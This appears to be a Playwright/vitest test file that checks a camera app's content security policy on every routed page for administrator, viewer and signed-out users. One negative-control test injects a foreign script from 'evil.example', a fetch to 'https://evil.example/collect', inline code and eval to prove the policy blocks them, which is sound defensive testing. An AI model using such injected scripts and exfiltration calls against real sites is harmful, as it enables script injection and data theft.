/**
 * The enforced content security policy over every page of the app, as administrator and as viewer, over HTTPS: no refusal and no
 * error on the console. The list of pages is read from the router, so a new page is looked at without anybody's doing.
 */
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { SimulatedCamera } from '../../cameras/simulated-camera.ts'
import { browserMissing, openBrowser, takePicture } from '../../support/browser.ts'
import { adminPassword, RunningVedette } from '../../support/running-vedette.ts'

if (browserMissing) console.warn(`Skipped: ${browserMissing}.`)

const routes = readFileSync(resolve(import.meta.dirname, '../../../web/src/routes.tsx'), 'utf8')
const paths = [...routes.matchAll(/path: '([^']+)'/g)].map(([, path = '']) => path)
const viewer = { username: 'vera', password: 'a viewer with four words' }

/** What a page did against the policy, and what it complained of. */
const findings = (page: Page) => page.evaluate<string[]>('window.refusedByPolicy ?? []')

describe.skipIf(browserMissing)('R11 the content security policy', () => {
  let vedette: RunningVedette
  let camera: SimulatedCamera
  let browser: Browser
  const signedIn: Record<string, BrowserContext> = {}
  let ids: Record<string, string> = {}

  beforeAll(async () => {
    // 127.0.0.2 is no address that clear HTTP is served on: HTTPS with a certificate made on the spot.
    ;[vedette, camera, browser] = await Promise.all([
      RunningVedette.open({ args: ['--host', '127.0.0.2'] }),
      SimulatedCamera.open({ main: { width: 640, height: 360, kbitPerS: 800 }, sub: { width: 320, height: 180 } }),
      openBrowser(),
    ])
    const code = /#code=(\S+)/.exec(vedette.output())?.[1] ?? ''
    const admin = await openContext()
    const post = async (path: string, data: object) => {
      const answer = await admin.request.post(path, { data })
      const body: unknown = await answer.json()
      expect(answer.ok(), JSON.stringify(body)).toBe(true)
      return body as { id: string }
    }
    await post('/api/setup', { code, username: 'anna', password: adminPassword })
    const address = (stream: string) => `rtsp://127.0.0.1:${camera.port}/${stream}`
    const made = await post('/api/cameras', { name: 'Yard', address: address('main'), subAddress: address('sub') })
    const user = await post('/api/users', { ...viewer, role: 'viewer' })
    ids = { cameraId: made.id, userId: user.id }
    signedIn.admin = admin
    signedIn.viewer = await openContext()
    expect((await signedIn.viewer.request.post('/api/login', { data: viewer })).ok()).toBe(true)
    signedIn.nobody = await openContext()
  })
  afterAll(async () => {
    await browser?.close()
    await vedette?.close()
    await camera?.close()
  })

  async function openContext(): Promise<BrowserContext> {
    const context = await browser.newContext({
      baseURL: vedette.url,
      ignoreHTTPSErrors: true,
      locale: 'en-GB',
      viewport: { width: 1440, height: 900 },
    })
    context.setDefaultTimeout(20_000)
    await context.addInitScript(`
      window.refusedByPolicy = []
      document.addEventListener('securitypolicyviolation', (event) =>
        window.refusedByPolicy.push(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.disposition))`)
    return context
  }

  async function visit(who: string, path: string) {
    const page = await (signedIn[who] ?? (await openContext())).newPage()
    const complaints: string[] = []
    page.on('pageerror', (error) => complaints.push(`thrown: ${error.message}`))
    page.on('console', (message) => {
      const text = message.text()
      // What the page may not have, it asks for and is refused: that is no fault of the page.
      const isRefusal = /^Failed to load resource: the server responded with a status of 4\d\d/.test(text)
      if ((message.type() === 'error' && !isRefusal) || /content.security.policy/i.test(text)) complaints.push(text)
    })
    const answer = await page.goto(path, { waitUntil: 'load' })
    await page.locator('h1, main').first().waitFor()
    await page.evaluate('document.fonts.ready.then(() => undefined)')
    return { page, complaints, policy: answer?.headers()['content-security-policy'] ?? '' }
  }

  test('R11 there are pages to look at, and the way to find them still works', () => {
    expect(paths).toEqual(expect.arrayContaining(['/', '/live', '/cameras/$cameraId', '/users/$userId', '/login']))
    expect(paths.length).toBeGreaterThanOrEqual(13)
  })

  const visits = [
    ...['admin', 'viewer'].flatMap((who) => paths.map((path) => [who, path] as const)),
    // Everything else leads somebody who is not signed in to one of these.
    ...['/', '/login', '/setup'].map((path) => ['nobody', path] as const),
  ]
  test.each(visits)('R11 %s on %s: nothing is refused and nothing complains', async (who, path) => {
    const address = path.replace(/\$(\w+)/g, (_, name: string) => ids[name] ?? name)
    const { page, complaints, policy } = await visit(who, address)
    expect(policy).toMatch(/^default-src 'self';/)
    expect(policy).not.toMatch(/unsafe|\*|https?:/)
    // Pages that wait for pictures go on after they are there: let them settle.
    await page.waitForLoadState('networkidle', { timeout: 2000 }).catch(() => {})
    expect({ refused: await findings(page), complaints }).toEqual({ refused: [], complaints: [] })
    await page.close()
  })

  test('R11 the check can fail: inline code, eval, foreign scripts, inline styles and connections elsewhere are refused and found', async () => {
    const { page, complaints } = await visit('admin', '/profile')
    await page.evaluate(`
      const inline = document.createElement('script')
      inline.textContent = 'window.ran = true'
      const foreign = document.createElement('script')
      foreign.src = 'https://evil.example/x.js'
      const style = document.createElement('style')
      style.textContent = 'body { color: red }'
      document.head.append(inline, foreign, style)
      fetch('https://evil.example/collect').catch(() => {})
      const late = document.createElement('div')
      late.setAttribute('onclick', 'window.ran = true')
      document.body.append(late)`)
    // Playwright's own evaluate is beyond the policy; a timer with text is the page's.
    await page.evaluate(`setTimeout('window.ran = true', 0)`).catch(() => {})
    await page.addScriptTag({ content: 'window.ran = true' }).catch(() => {})
    const expected = [
      'script-src-elem inline',
      'script-src-elem https://evil.example',
      'style-src-elem inline',
      'script-src-attr inline',
      'script-src eval',
      'connect-src https://evil.example',
    ]
    for (const start of expected)
      await expect
        .poll(async () => (await findings(page)).some((found) => found.startsWith(start)), { message: start })
        .toBe(true)
    expect((await findings(page)).every((found) => found.endsWith('enforce'))).toBe(true)
    expect(await page.evaluate('window.ran')).toBeUndefined()
    expect(complaints.length).toBeGreaterThan(0)
    await page.close()
  })

  test('R10 the profile shows how this server is known, and hands out its authority', async () => {
    const { page } = await visit('viewer', '/profile')
    const link = page.getByRole('link', { name: 'Download the authority' })
    await link.scrollIntoViewIfNeeded()
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()])
    expect(download.suggestedFilename()).toBe('vedette-ca.crt')
    await page
      .getByText(/^Fingerprint \(SHA-256\)/)
      .first()
      .waitFor()
    await takePicture(page, 'certificate-1440')
    await page.setViewportSize({ width: 360, height: 800 })
    await link.scrollIntoViewIfNeeded()
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360)
    await takePicture(page, 'certificate-360')
    await page.emulateMedia({ colorScheme: 'dark' })
    await takePicture(page, 'certificate-360-dark')
    await page.close()
  })
})
